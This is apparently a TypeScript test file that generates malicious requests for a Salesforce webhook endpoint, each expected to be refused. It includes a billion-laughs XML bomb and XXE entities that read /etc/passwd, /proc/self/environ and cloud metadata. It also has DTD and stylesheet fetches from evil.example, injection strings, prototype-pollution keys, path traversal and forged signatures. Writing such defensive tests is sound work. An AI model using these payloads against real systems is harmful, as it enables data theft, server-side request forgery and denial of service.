import { createHmac } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { ORGANIZATION, SIGNING_SECRET } from '../front-door.ts';
import type { Chance } from './chance.ts';
import { JSON_TYPE, type Makers } from './request.ts';
import { encoded, nested, PROTOTYPE_KEYS, STRANGE_TEXTS } from './strange-texts.ts';

/** A message of Salesforce itself, which the door takes in. */
export const ENVELOPE = readFileSync('test/contracts/salesforce/outbound-message/notification.soap.xml', 'utf8').trim();
const OTHER_ORGANIZATION = '00DHs000000OTHEMAM';
const RECORD = { entity: 'Contract', id: '800Hs00001SMPLCIA3' };
/** A callout of the org's own Apex, which the door takes in where it is signed. */
export const CALLOUT = JSON.stringify({ organizationId: ORGANIZATION, records: [RECORD] });
/** Bytes that the door takes. */
const MAX_BODY_BYTES = 1_000_000;

type Headers = readonly (readonly [string, string])[];
export const XML_TYPE: Headers = [['content-type', 'text/xml; charset=UTF-8']];

const mac = (body: Buffer | string, at: number | string, secret = SIGNING_SECRET, algorithm = 'sha256'): Buffer =>
  createHmac(algorithm, secret).update(`${at}.`).update(body).digest();

const headersOf = (at: number | string, signature: string): Headers => [
  ...JSON_TYPE,
  ['x-timestamp', String(at)],
  ['x-signature', signature],
];

/** As an org's Apex signs a callout, now or so many milliseconds off. */
export const calloutSignedBy = (body: Buffer | string, offMs = 0): Headers => {
  const at = Date.now() + offMs;
  return headersOf(at, mac(body, at).toString('base64'));
};

/** Headers of a callout that are off in one way each. */
const offHeaders = (chance: Chance): readonly Headers[] => {
  const at = Date.now();
  const good = mac(CALLOUT, at).toString('base64');
  const old = -301_000 - chance.below(1_000_000_000);
  const ahead = 330_000 + chance.below(1_000_000_000);
  return [
    JSON_TYPE,
    [...JSON_TYPE, ['x-timestamp', String(at)]],
    [...JSON_TYPE, ['x-signature', good]],
    calloutSignedBy(CALLOUT, old),
    calloutSignedBy(CALLOUT, ahead),
    headersOf(at + 1, good),
    headersOf(Math.floor(at / 1000), mac(CALLOUT, Math.floor(at / 1000)).toString('base64')),
    headersOf(`${at}.0`, mac(CALLOUT, `${at}.0`).toString('base64')),
    headersOf('0x18bcfe56800', good),
    headersOf('9'.repeat(400), good),
    headersOf(`-${at}`, good),
    headersOf(at, ''),
    headersOf(at, '='),
    headersOf(at, good.slice(0, -1)),
    headersOf(at, `${good}=`),
    headersOf(at, `${good.startsWith('A') ? 'B' : 'A'}${good.slice(1)}`),
    headersOf(at, Buffer.alloc(32).toString('base64')),
    headersOf(at, mac(CALLOUT, at).toString('hex')),
    headersOf(at, mac(CALLOUT, at, 'whsec_other').toString('base64')),
    headersOf(at, mac(CALLOUT, at, SIGNING_SECRET.slice('whsec_'.length)).toString('base64')),
    headersOf(at, mac(CALLOUT, at, SIGNING_SECRET, 'sha512').subarray(0, 32).toString('base64')),
    headersOf(at, createHmac('sha256', SIGNING_SECRET).update(CALLOUT).digest('base64')),
    headersOf(at, 'x'.repeat(6_000)),
    [...headersOf(at, good), ['x-signature', Buffer.alloc(32).toString('base64')]],
    [...headersOf(at, good), ['x-timestamp', String(at)]],
    // As Stripe signs.
    [...JSON_TYPE, ['stripe-signature', `t=${Math.floor(at / 1000)},v1=${'0'.repeat(64)}`]],
  ];
};

/** Bodies that our own secret signed and that name no records of the org all the same. */
const notCallouts = (chance: Chance): readonly (Buffer | string)[] => [
  '[]',
  'null',
  '"x"',
  '{',
  `${CALLOUT}x`,
  CALLOUT.slice(0, 1 + chance.below(CALLOUT.length - 1)),
  CALLOUT.replace(ORGANIZATION, OTHER_ORGANIZATION),
  CALLOUT.replace(ORGANIZATION, ''),
  CALLOUT.replace(`"${ORGANIZATION}"`, '{"a":1}'),
  CALLOUT.replace(RECORD.id, `800' OR Id != '`),
  JSON.stringify({ organizationId: ORGANIZATION, records: [{ ...RECORD, id: chance.of(STRANGE_TEXTS) }] }),
  CALLOUT.replace(RECORD.entity, 'Contract WHERE Id != null'),
  CALLOUT.replace('{', '{"__proto__":{"admin":true},'),
  CALLOUT.replace('"records"', `"${chance.of(PROTOTYPE_KEYS)}"`),
  JSON.stringify({ organizationId: ORGANIZATION, records: [] }),
  JSON.stringify({ organizationId: ORGANIZATION, records: Array.from({ length: 201 + chance.below(5_000) }, () => RECORD) }),
  CALLOUT.replace(JSON.stringify(RECORD), nested(30_000, chance)),
  nested(400_000, chance),
  ENVELOPE,
  chance.bytes(300),
  Buffer.from(CALLOUT, 'utf16le'),
];

const withDoctype = (inner: string, envelope = ENVELOPE): string => envelope.replace('?>', `?><!DOCTYPE x ${inner}>`);
const inSession = (text: string): string => ENVELOPE.replace('<SessionId xsi:nil="true"/>', `<SessionId>${text}</SessionId>`);

/** Ten entities, each ten times the one before: ten thousand million characters of two hundred. */
const LAUGHS = withDoctype(
  `[<!ENTITY l0 "ha">${Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]`,
  inSession('&l10;'),
);

/** What a parser that expands, or fetches, would stumble over. */
const entities = (chance: Chance): readonly string[] => [
  LAUGHS,
  withDoctype(`[<!ENTITY a "${'a'.repeat(50_000)}">]`, inSession('&a;'.repeat(50_000))),
  withDoctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', inSession('&a;')),
  withDoctype(
    `[<!ENTITY a SYSTEM "${chance.of(['file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/', '/proc/self/environ'])}">]`,
    inSession('&a;'),
  ),
  withDoctype('[<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]'),
  withDoctype('SYSTEM "http://evil.example/x.dtd"'),
  withDoctype('PUBLIC "-//X//X" "http://evil.example/x.dtd"'),
  withDoctype(''),
  inSession('&a;'),
  inSession('&#xFFFFFFFFF;'),
  inSession('&'),
  inSession('&;'),
  inSession('& amp;'),
  inSession('&amp'.repeat(200_000)),
  ENVELOPE.replace(
    '<Notification>',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>&a;<Notification>',
  ),
  ENVELOPE.replace('?>', '?><?xml-stylesheet href="http://evil.example/x.xsl"?>'),
];

const malformed = (chance: Chance): readonly (Buffer | string)[] => [
  '<',
  '<<<<',
  '</a>',
  '<a/>',
  '{}',
  `x${ENVELOPE}`,
  `${ENVELOPE}x`,
  ENVELOPE + ENVELOPE,
  ENVELOPE.replace('</Notification>', ''),
  ENVELOPE.replace('<sf:Id>', '<sf:Id a=b>'),
  ENVELOPE.replace('<sf:Id>', '<sf:Id a="<">'),
  ENVELOPE.replace('<sf:Id>', `<sf:Id ${'a="1" '.repeat(20_000)}`),
  ENVELOPE.replace('<Notification>', '<!-- x --><Notification>'),
  ENVELOPE.replace('<Notification>', '<![CDATA[</Notification>]]><Notification>'),
  ENVELOPE.replace('006Hs00001SMPLOIA3', chance.of(["006' OR Id != '", '', '006', 'x'.repeat(100_000), '&lt;', '\u0000'])),
  ENVELOPE.replaceAll('sf:Opportunity', chance.of(['sf:Opportunity WHERE', 'sf:', '', '__proto__ x', `sf:${'O'.repeat(81)}`])),
  ENVELOPE.replace('http://soap.sforce.com/2005/09/outbound', chance.of(['urn:x', '', 'http://soap.sforce.com/2005/09/inbound'])),
  ENVELOPE.replaceAll(/<Notification>[\s\S]*<\/Notification>/g, ''),
  ENVELOPE.replaceAll(/<OrganizationId>.*<\/OrganizationId>/g, ''),
  ENVELOPE.replace(/<\/Notification>[\s\S]*<\/Notification>/, (all) => `${all}<Notification>${'x'.repeat(chance.below(100_000))}`),
  `<a${' '.repeat(400_000)}`,
  '<a '.repeat(200_000),
  `<a b="${'x'.repeat(900_000)}`,
  Buffer.from(`\uFEFF${ENVELOPE}`, 'utf16le'),
  gzipSync(ENVELOPE),
  chance.bytes(500),
];

const deep = (chance: Chance): string => {
  const depth = 7 + chance.below(100_000);
  const inner = chance.of(['<a>'.repeat(depth), `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`]);
  return chance.of([inner, inSession(inner), ENVELOPE.replace('<sf:Id>', `${inner}<sf:Id>`)]).slice(0, MAX_BODY_BYTES);
};

const notification = (i: number): string =>
  `<Notification><Id>04lHs00000SMPL1IAX</Id><sObject xsi:type="sf:Account"><sf:Id>001Hs0000${String(i).padStart(6, '0')}</sf:Id></sObject></Notification>`;
const crowded = (notifications: number): string =>
  ENVELOPE.replace('<Notification>', `${Array.from({ length: notifications }, (_, i) => notification(i)).join('')}<Notification>`);

/** For the door of Salesforce. */
export const OF_SALESFORCE: Makers = {
  'an envelope that is no XML': (_, chance) => ({ must: 'refused', body: chance.of(malformed(chance)), headers: XML_TYPE }),
  'an envelope with entities': (_, chance) => ({ must: 'refused', body: chance.of(entities(chance)), headers: XML_TYPE }),
  'an envelope that is nested too deeply': (_, chance) => ({ must: 'refused', body: deep(chance), headers: XML_TYPE }),
  'a truncated envelope': (_, chance) => ({ must: 'refused', body: ENVELOPE.slice(0, chance.below(ENVELOPE.length)), headers: XML_TYPE }),
  'an envelope of too many notifications': (_, chance) => ({ must: 'refused', body: crowded(99 + chance.below(5_000)), headers: XML_TYPE }),
  'a huge envelope': (_, chance) => ({
    must: 'refused',
    body: inSession('x'.repeat(MAX_BODY_BYTES + chance.below(chance.below(4) === 0 ? 8_000_000 : 1_000))),
    headers: XML_TYPE,
  }),
  'an envelope of another organization': (_, chance) => ({
    must: 'refused',
    body: ENVELOPE.replace(ORGANIZATION, chance.of([OTHER_ORGANIZATION, ORGANIZATION.toLowerCase(), '00D', '', "00D' OR '1"])),
    headers: XML_TYPE,
  }),
  'an envelope of another content type': (_, chance) => ({
    must: 'refused',
    body: ENVELOPE,
    headers: chance.of([
      [],
      ...['text/plain', 'application/json', 'text/xmlx', 'application/x-xml', 'text/html', ''].map((type) => [
        ['content-type', type] as const,
      ]),
    ]),
  }),
  'a callout whose signature is off': (_, chance) => ({ must: 'refused', body: CALLOUT, headers: chance.of(offHeaders(chance)) }),
  'a callout that was altered after it was signed': (_, chance) => ({
    must: 'refused',
    body: chance.of([
      `${CALLOUT} `,
      CALLOUT.replace('800', '801'),
      CALLOUT.replace('{', '{ '),
      Buffer.from(`\uFEFF${CALLOUT}`),
      gzipSync(CALLOUT),
      '',
    ]),
    headers: calloutSignedBy(CALLOUT),
  }),
  'a signed body that is no callout': (_, chance) => {
    const body = chance.of(notCallouts(chance));
    return { must: 'refused', body, headers: calloutSignedBy(body) };
  },
  'a signed callout that says to be XML': () => ({
    must: 'refused',
    body: CALLOUT,
    headers: [...XML_TYPE, ...calloutSignedBy(CALLOUT).filter(([name]) => name !== 'content-type')],
  }),
  'a huge callout': (_, chance) => {
    const body = `${CALLOUT.slice(0, -1)},"x":"${'x'.repeat(MAX_BODY_BYTES + chance.below(8_000_000))}"}`;
    return { must: 'refused', body, headers: calloutSignedBy(body) };
  },
  'another instance of Salesforce': (_, chance) => {
    const name = chance.of([...PROTOTYPE_KEYS, 'other', '%00', 'main%20', '%2e%2e%2f', 'a/b', encoded(chance.of(STRANGE_TEXTS.slice(1)))]);
    const [body, headers] = chance.of([
      [ENVELOPE, XML_TYPE],
      [CALLOUT, calloutSignedBy(CALLOUT)],
    ] as const);
    return { must: 'refused', path: `/webhooks/salesforce/${name}`, body, headers };
  },
};
